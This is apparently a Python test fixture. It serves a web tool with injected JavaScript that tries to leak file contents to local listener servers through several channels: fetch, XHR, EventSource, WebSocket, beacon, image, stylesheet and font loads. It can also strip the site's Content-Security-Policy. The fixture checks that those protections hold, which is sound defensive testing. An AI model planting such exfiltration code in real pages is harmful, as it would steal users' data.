"""Servers that listen for what gets out of the provider's tool, and a copy of its site with leaks planted in it."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

from tests.browser.conftest import QuietHandler

LEAKS_OF_WORKER = ("worker-fetch", "worker-request", "worker-events", "worker-socket")
LEAKS_OF_PAGE = ("page-fetch", "page-beacon", "page-image", "page-style", "page-font", "page-socket")
LEAK = "leak"

# A browser may say nothing at all of an attempt that it stops.
_SETTLED = """
const late = () => new Promise((done) => setTimeout(done, 2000));
const settled = (tries) => Promise.allSettled(tries.map((one) => Promise.race([one, late()])));
"""
# Planted before everything else in the worker: each file that it is given is sent in each way that a worker has.
_IN_WORKER = """
const leakOut = self.fetch.bind(self);
self.addEventListener("message", async ({data}) => {
    if (!data.file) return;
    const told = new TextDecoder().decode(data.file.bytes).slice(0, 40);
    const tries = [];
    for (const [where, base] of Object.entries(LEAK_TO)) {
        const to = (way) => `${base}/leak?way=${where}-${way}&told=${encodeURIComponent(told)}`;
        const attempt = (act) => { try { tries.push(act()); } catch {} };
        attempt(() => leakOut(to("worker-fetch"), {mode: "no-cors"}).catch(() => {}));
        attempt(() => new Promise((done) => {
            const request = new XMLHttpRequest();
            request.onloadend = done;
            request.open("GET", to("worker-request"));
            request.send();
        }));
        attempt(() => new Promise((done) => {
            const events = new EventSource(to("worker-events"));
            events.onerror = () => { events.close(); done(); };
        }));
        attempt(() => new Promise((done) => {
            const socket = new WebSocket(to("worker-socket").replace("http", "ws"));
            socket.onclose = socket.onerror = done;
        }));
    }
    await settled(tries);
    self.postMessage({id: "leaked"});
});
"""
# Planted in the page: what is read of the file is sent in each way that a page has.
_IN_PAGE = """
// What is handed over to be saved, for browsers whose downloads a test cannot see.
const handedOver = URL.createObjectURL.bind(URL);
let saved = 0;
URL.createObjectURL = (blob) => {
    if (blob.type !== "text/javascript") {
        const reader = new FileReader(), name = `saved${saved++}`;
        reader.onload = () => { document.documentElement.dataset[name] = reader.result.split(",")[1]; };
        reader.readAsDataURL(blob);
    }
    return handedOver(blob);
};
async function leakFromPage(record) {
    const told = JSON.stringify(record.preview ?? "").slice(0, 40), tries = [];
    for (const [where, base] of Object.entries(LEAK_TO)) {
        const to = (way) => `${base}/leak?way=${where}-${way}&told=${encodeURIComponent(told)}`;
        const ended = (element, place) => new Promise((done) => {
            element.onload = element.onerror = done;
            place?.append(element);
        });
        const attempt = (act) => { try { tries.push(act()); } catch {} };
        attempt(() => fetch(to("page-fetch"), {mode: "no-cors"}).catch(() => {}));
        attempt(() => navigator.sendBeacon(to("page-beacon"), told));
        attempt(() => { const image = new Image(); image.src = to("page-image"); return ended(image); });
        attempt(() => {
            const link = document.createElement("link");
            link.rel = "stylesheet";
            link.href = to("page-style");
            return ended(link, document.head);
        });
        attempt(() => new FontFace("leak", `url("${to("page-font")}")`).load().catch(() => {}));
        attempt(() => new Promise((done) => {
            const socket = new WebSocket(to("page-socket").replace("http", "ws"));
            socket.onclose = socket.onerror = done;
        }));
    }
    await settled(tries);
    const {dataset} = document.documentElement;
    dataset.leaked = Number(dataset.leaked ?? 0) + 1;
}
"""


@dataclass(slots=True)
class Listener:
    """A server, and the ways in which something has arrived at it."""

    address: str
    arrived: list[str] = field(default_factory=list)

    def leaks(self) -> set[str]:
        """The ways in which leaks have arrived."""
        ways = (parse_qs(urlsplit(path).query) for path in list(self.arrived) if urlsplit(path).path == f"/{LEAK}")
        return {way for query in ways for way in query.get("way", [])}


class ListeningHandler(http.server.BaseHTTPRequestHandler):
    """Answers any request with nothing, and notes its address."""

    listener: Listener

    def do_GET(self) -> None:
        """Note a request."""
        self.listener.arrived.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def listening() -> Iterator[Listener]:
    """Listen on a free port."""
    listener = Listener("")
    handler = type("Handler", (ListeningHandler,), {"listener": listener})
    with running(handler) as address:
        listener.address = address
        yield listener


@contextmanager
def planted(site: Path, other: Listener, *, shut: bool) -> Iterator[Listener]:
    """
    Serve a site whose tool has leaks in it.

    Args:
        site: The site; nothing in it is changed.
        other: A host that they lead to, besides the site's own.
        shut: False takes all policies away, and the worker's own look at whether it is shut.
    """
    host = Listener("")

    class Handler(QuietHandler):
        """Files of the site, some of them changed on their way."""

        def do_GET(self) -> None:  # noqa: N802
            path = urlsplit(self.path).path
            if path == f"/{LEAK}":
                host.arrived.append(self.path)
                return self.answer(b"", "text/plain")
            file = site / path.lstrip("/")
            file = file / "index.html" if path.endswith("/") else file
            to = f'const LEAK_TO = {{own: "{host.address}", other: "{other.address}"}};\n'
            if file.name == "worker.js":
                text = file.read_text(encoding="utf-8")
                return self.answer(
                    (to + _SETTLED + _IN_WORKER + (text if shut else _opened(text))).encode(), "text/javascript"
                )
            if file.name == "tool.js":
                text = _with_page_leak(file.read_text(encoding="utf-8"), shut=shut)
                return self.answer((to + _SETTLED + _IN_PAGE + text).encode(), "text/javascript")
            if file.name == "index.html" and not shut:
                text = file.read_text(encoding="utf-8").replace("Content-Security-Policy", "X-No-Policy")
                return self.answer(text.encode(), "text/html; charset=utf-8")
            return super().do_GET()

        do_POST = do_GET  # noqa: N815

        def answer(self, content: bytes, kind: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def send_header(self, keyword: str, value: str) -> None:
            if shut or keyword != "Content-Security-Policy":
                super().send_header(keyword, value)

        def __init__(self, *arguments: object) -> None:
            super().__init__(*arguments, directory=str(site))

    with running(Handler) as address:
        host.address = address
        yield host


@contextmanager
def running(handler: type[http.server.BaseHTTPRequestHandler]) -> Iterator[str]:
    """Run a server on a free port."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def _opened(worker: str) -> str:
    """The worker without its own look at whether anything gets out."""
    return _replaced(worker, 'if (!await isShut()) throw new Error("open");', "")


def _with_page_leak(script: str, *, shut: bool) -> str:
    """The screen's script, which also sends each record of the program; the control does not shut the page."""
    answered = "const {done, refused} = this.waiting.get(data.id);"
    script = _replaced(
        script,
        answered,
        f'if (data.id === "leaked") return void (document.documentElement.dataset.workerLeaked = "yes");\n{answered}',
    )
    forgotten = "this.waiting.delete(data.id);"
    script = _replaced(script, forgotten, f"{forgotten}\nleakFromPage(data.record ?? {{}});")
    return script if shut else _replaced(script, "shut(this.data.policy);", "")


def _replaced(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, old
    return text.replace(old, new)
